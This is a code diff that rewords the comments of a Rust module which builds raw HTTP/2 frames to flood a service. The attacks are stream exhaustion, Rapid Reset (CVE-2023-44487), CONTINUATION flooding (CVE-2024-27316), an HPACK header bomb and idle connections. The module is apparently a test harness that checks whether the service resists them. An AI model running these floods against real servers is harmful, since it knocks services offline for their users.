@@ -1,4 +1,4 @@
-//! Attacks over HTTP/2 (RFC 9113), frame by frame: no library would send these.
+//! Attacks over HTTP/2 (RFC 9113), frame by frame, since no library would send them.
 
 use std::iter;
 use std::net::SocketAddr;
@@ -11,7 +11,7 @@ use super::{CART, End, connect, send};
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
 
-/// Connections of each attack.
+/// The number of connections of each attack.
 const CONNECTIONS: usize = 10;
 
 /// Types of frames.
@@ -21,7 +21,7 @@ const SETTINGS: u8 = 4;
 const GOAWAY: u8 = 7;
 const CONTINUATION: u8 = 9;
 
-/// Why a connection is ended.
+/// The error code of a connection that is closed because of excessive load.
 const ENHANCE_YOUR_CALM: u32 = 0xb;
 
 /// Flags of HEADERS.
@@ -36,13 +36,13 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     frame
 }
 
-/// A name or value, not compressed.
+/// Encodes a name or value, without compression.
 fn text(text: &str) -> Vec<u8> {
     let len = u8::try_from(text.len()).ok().filter(|len| *len < 127).expect("a short text");
     [&[len], text.as_bytes()].concat()
 }
 
-/// The fields that every request has (HPACK, RFC 7541): from the static table, `path` and `host` spelt out.
+/// The fields of every request (HPACK, RFC 7541): from the static table, with `path` and `host` in full.
 fn request(method: u8, path: &str) -> Vec<u8> {
     [&[method, 0x86, 0x04][..], &text(path), &[0x01], &text("x")].concat()
 }
@@ -54,7 +54,7 @@ fn start() -> Vec<u8> {
     [PREFACE, &frame(SETTINGS, 0, 0, &[])].concat()
 }
 
-/// The frames of an answer: type and payload.
+/// The frames of an answer, by type and payload.
 fn frames(mut bytes: &[u8]) -> Vec<(u8, Vec<u8>)> {
     let mut frames = Vec::new();
     while let [a, b, c, kind, _, _, _, _, _, rest @ ..] = bytes {
@@ -66,7 +66,8 @@ fn frames(mut bytes: &[u8]) -> Vec<(u8, Vec<u8>)> {
     frames
 }
 
-/// Some connections that send the same. It is made while it is sent: what nobody reads any more costs the attacker nothing.
+/// Several connections that send the same. The frames are made while they are sent, so that the attacker spends nothing on
+/// what the service no longer reads.
 async fn attack<I>(address: SocketAddr, from: u8, parts: impl Fn() -> I) -> anyhow::Result<Vec<End>>
 where
     I: Iterator<Item = Vec<u8>>,
@@ -87,10 +88,10 @@ fn streams(count: u32) -> impl Iterator<Item = u32> {
     (0..count).map(|number| 2 * number + 1)
 }
 
-/// Ten thousand requests at once, whose bodies never come.
+/// Ten thousand concurrent requests without their bodies.
 ///
 /// # Errors
-/// When one of them is not ended, or nothing is refused.
+/// A connection is not closed, or no request is rejected.
 pub async fn too_many_streams(address: SocketAddr) -> anyhow::Result<()> {
     let fields = request(POST, CART);
     let parts = || {
@@ -105,11 +106,11 @@ pub async fn too_many_streams(address: SocketAddr) -> anyhow::Result<()> {
     Ok(())
 }
 
-/// Requests that are taken back at once (CVE-2023-44487): 50,000 of some who never look up, and a thousand of some who then
-/// wait for what we say.
+/// Requests that are reset at once (CVE-2023-44487): 50,000 from connections that never read, and a thousand from connections
+/// that then wait for the answer.
 ///
 /// # Errors
-/// When one of them is not ended, or waits in vain to be told that it was too much.
+/// A connection is not closed, or does not get the reason that it waits for.
 pub async fn rapid_reset(address: SocketAddr) -> anyhow::Result<()> {
     let fields = request(GET, CART);
     let one = |stream| {
@@ -119,7 +120,7 @@ pub async fn rapid_reset(address: SocketAddr) -> anyhow::Result<()> {
     };
     let some = |group: u32| (group * 1_000..(group + 1) * 1_000).flat_map(|number| one(2 * number + 1)).collect();
     let parts = |thousands: u32| (0..thousands).map(some);
-    // All are ended, or `attack` fails; who still sends may miss why.
+    // All are closed, or `attack` fails. A connection that still sends may miss the reason.
     attack(address, 13, || parts(50)).await?;
     let is_told = |end: &End| {
         let mut ends = frames(&end.answer).into_iter().filter(|(kind, _)| *kind == GOAWAY);
@@ -130,10 +131,10 @@ pub async fn rapid_reset(address: SocketAddr) -> anyhow::Result<()> {
     Ok(())
 }
 
-/// A head that goes on in frame after frame (CVE-2024-27316).
+/// A head that continues in frame after frame (CVE-2024-27316).
 ///
 /// # Errors
-/// When one of them is not ended.
+/// A connection is not closed.
 pub async fn endless_head(address: SocketAddr) -> anyhow::Result<()> {
     let field = [&[0x00][..], &text("x-a"), &text(&"a".repeat(100))].concat();
     let part = field.repeat(150);
@@ -144,16 +145,16 @@ pub async fn endless_head(address: SocketAddr) -> anyhow::Result<()> {
     attack(address, 14, parts).await.map(|_| ())
 }
 
-/// A small head that unfolds to a large one: a field is named once, and then pointed at again and again.
+/// A small head that decompresses to a large one: a field is defined once, and then referenced many times.
 ///
 /// # Errors
-/// When one of them is not ended, or a request comes through.
+/// A connection is not closed, or a request is accepted.
 pub async fn header_bomb(address: SocketAddr) -> anyhow::Result<()> {
     let indexed = [&[0x40][..], &text("x-a"), &text(&"a".repeat(126))].concat();
     let fields = [request(GET, "/health/live"), indexed, vec![0x80 | 62; 15_000]].concat();
     let parts = || streams(100).map(|stream| frame(HEADERS, END_HEADERS | END_STREAM, stream, &fields));
     for end in attack(address, 15, parts).await? {
-        // 2 MB of fields each: no such request is let through.
+        // Each has 2 MB of fields, and must be rejected.
         let ok =
             frames(&end.answer).iter().filter(|(kind, head)| *kind == HEADERS && head.first() == Some(&0x88)).count();
         ensure!(ok == 0, "{ok} requests came through");
@@ -161,10 +162,10 @@ pub async fn header_bomb(address: SocketAddr) -> anyhow::Result<()> {
     Ok(())
 }
 
-/// A connection without a request, or with none any more.
+/// A connection without a request, or after its last one.
 ///
 /// # Errors
-/// When one of them is not ended, or is before its time (`idle`).
+/// A connection is not closed, or is closed before its idle timeout (`idle`).
 pub async fn nothing(address: SocketAddr, idle: Duration) -> anyhow::Result<()> {
     attack(address, 16, iter::empty).await?;
     let once = || iter::once(frame(HEADERS, END_HEADERS | END_STREAM, 1, &request(GET, "/health/live")));
